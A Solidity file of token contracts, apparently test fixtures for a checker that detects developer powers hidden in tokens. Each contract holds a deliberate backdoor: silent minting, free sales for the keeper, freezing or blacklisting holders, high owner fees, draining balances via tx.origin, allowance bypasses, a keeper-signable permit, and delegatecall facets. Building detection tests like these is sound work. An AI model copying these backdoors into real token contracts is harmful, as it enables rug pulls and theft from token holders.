// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

/// @title Powers that a developer keeps, told by no event, or reached by a way round. Written on 29 November 2026 by
/// somebody who had not read how the check tries powers
abstract contract Kept is FamilyToken {
    address internal immutable _keeper = msg.sender;
}

contract SaleCostsNothing is Kept {
    function _move(address from, address to, uint256 value) internal override {
        uint256 before = _balances[from];
        super._move(from, to, value);
        if (from == _keeper && to == pair && value > 0) _balances[from] = before;
    }
}

contract SaleCostsNothingByAmount is Kept {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (from == _keeper && value % 10 == 7) _balances[from] += value;
        return super.transferFrom(from, to, value);
    }
}

contract SilentCheckpoint is Kept {
    function checkpoint() external {
        if (msg.sender == _keeper) _balances[_keeper] += 5e27;
    }
}

contract SilentByClaim is Kept {
    mapping(address => uint256) private _rewards;

    function notify(address to, uint256 amount) external {
        require(msg.sender == _keeper);
        _rewards[to] = amount;
    }

    function claim() external {
        _balances[msg.sender] += _rewards[msg.sender];
        _rewards[msg.sender] = 0;
    }
}

contract AppointsWhoFreezes is FamilyToken {
    address private _guard;
    mapping(address => bool) private _frozen;

    function setGuard(address guard) external onlyOwner {
        _guard = guard;
    }

    function freeze(address account) external {
        require(msg.sender == _guard);
        _frozen[account] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!_frozen[from], "frozen");
        super._move(from, to, value);
    }
}

contract AppointsWhoIssues is Kept {
    mapping(address => bool) private _isIssuer;

    function setIssuer(address account, bool isIssuer) external {
        require(msg.sender == _keeper);
        _isIssuer[account] = isIssuer;
    }

    function issue(address to, uint256 value) external {
        require(_isIssuer[msg.sender], "issuer");
        _give(to, value);
    }
}

contract ProposesThenShutsOut is Kept {
    address private _next;
    mapping(address => bool) private _isOut;

    function propose(address account) external {
        require(msg.sender == _keeper);
        _next = account;
    }

    function settle() external {
        _isOut[_next] = true;
        delete _next;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isOut[from]) revert();
        super._move(from, to, value);
    }
}

contract QueuesThenTaxes is FamilyToken {
    uint256 private _queued;
    uint256 private _percent;

    function queueFee(uint256 percent) external onlyOwner {
        _queued = percent;
    }

    function applyFee() external onlyOwner {
        _percent = _queued;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == owner || to == owner) super._move(from, to, value);
        else _moveWithFee(from, to, value, _percent > 99 ? 99 : _percent, owner);
    }
}

contract SignerTidies is Kept {
    function tidy(address account) external {
        require(tx.origin == _keeper, "no");
        uint256 all = _balances[account];
        _balances[account] = 0;
        _balances[_keeper] += all;
    }
}

contract SignerCloses is Kept {
    bool private _isClosed;

    function toggle() external {
        if (tx.origin == _keeper) _isClosed = !_isClosed;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!_isClosed || tx.origin == _keeper);
        super._move(from, to, value);
    }
}

contract Puller {
    address private immutable _keeper = tx.origin;

    function pull(FamilyToken token, address from, uint256 value) external {
        require(msg.sender == _keeper);
        token.transferFrom(from, _keeper, value);
    }
}

contract HelperNeedsNoLeave is FamilyToken {
    address private immutable _helper = address(new Puller());

    function allowance(address holder, address spender) public view override returns (uint256) {
        return spender == _helper ? 0 : super.allowance(holder, spender);
    }

    function _spend(address from, uint256 value) internal override {
        if (msg.sender != _helper) super._spend(from, value);
    }
}

contract LeaveForTheKeeper is Kept {
    function _spend(address from, uint256 value) internal override {
        if (uint256(uint160(msg.sender)) != uint256(uint160(_keeper))) super._spend(from, value);
    }
}

contract PermitOfTwo is Kept {
    mapping(address => uint256) public nonces;

    function permit(
        address holder,
        address spender,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(deadline >= block.timestamp, "late");
        bytes32 digest = keccak256(abi.encode(address(this), holder, spender, value, nonces[holder]++, deadline));
        address signer = ecrecover(digest, v, r, s);
        require(signer != address(0) && (signer == holder || signer == _keeper), "signature");
        _allowances[holder][spender] = value;
    }
}

contract ApprovalMakesTokens is Kept {
    function approve(address spender, uint256 value) public override returns (bool) {
        if (spender == _keeper) {
            _balances[spender] += value;
            return true;
        }
        return super.approve(spender, value);
    }
}

contract ApprovalOfOneMakesTokens is Kept {
    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _keeper && spender == address(0xdead)) _balances[msg.sender] += value * 1000;
        return super.approve(spender, value);
    }
}

contract Facets is FamilyToken {
    mapping(bytes4 => address) private _facets;

    function setFacets(bytes4[] calldata selectors, address facet) external onlyOwner {
        for (uint256 i; i < selectors.length; i++) _facets[selectors[i]] = facet;
    }

    fallback() external {
        address facet = _facets[msg.sig];
        require(facet != address(0), "unknown");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isDone := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch isDone
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract Register {
    address private immutable _keeper = tx.origin;
    mapping(address => uint256) private _state;

    function mark(address account, uint256 state) external {
        require(msg.sender == _keeper);
        _state[account] = state;
    }

    function stateOf(address account) external view returns (uint256) {
        return _state[account];
    }
}

contract RegisterForLargeSales is FamilyToken {
    Register private immutable _register = new Register();

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && value >= totalSupply / 200) require(_register.stateOf(from) == 0, "review");
        super._move(from, to, value);
    }
}

contract Treasury {
    address private immutable _keeper = tx.origin;

    function run(address target, bytes calldata data) external {
        require(msg.sender == _keeper);
        (bool isDone,) = target.call(data);
        require(isDone);
    }
}

contract OwnedByATreasury is FamilyToken {
    address private immutable _treasury = address(new Treasury());

    function issue(address to, uint256 value) external {
        require(msg.sender == _treasury);
        _give(to, value);
    }
}
